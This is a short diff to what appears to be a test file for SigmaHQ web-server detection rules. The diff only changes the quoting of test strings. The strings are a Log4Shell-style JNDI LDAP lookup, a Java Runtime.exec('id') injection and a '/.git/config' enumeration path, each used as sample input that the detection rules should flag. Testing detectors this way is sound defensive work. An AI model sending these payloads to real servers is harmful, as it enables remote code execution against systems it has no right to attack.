@@ -112,13 +112,13 @@ describe('SigmaHQ web corpus', () => {
     );
     rule(
       'webserver_generic/web_jndi_exploit.yml',
-      web('/x/${jndi:ldap://h/Basic/Command/Base64/aWQ=}'),
+      web(`/x/$\{jndi:ldap://h/Basic/Command/Base64/aWQ=}`),
       web('/x/Basic/Commands'),
     );
     rule('webserver_generic/web_source_code_enumeration.yml', web('/.git/config'), web('/.github/workflows'));
     rule(
       'webserver_generic/web_java_payload_in_access_logs.yml',
-      web('/?x=${@java.lang.Runtime@getRuntime().exec("id")}'),
+      web(`/?x=$\{@java.lang.Runtime@getRuntime().exec("id")}`),
       web('/?x=java'),
     );
     // keywords without _raw: every string value of the event is searched
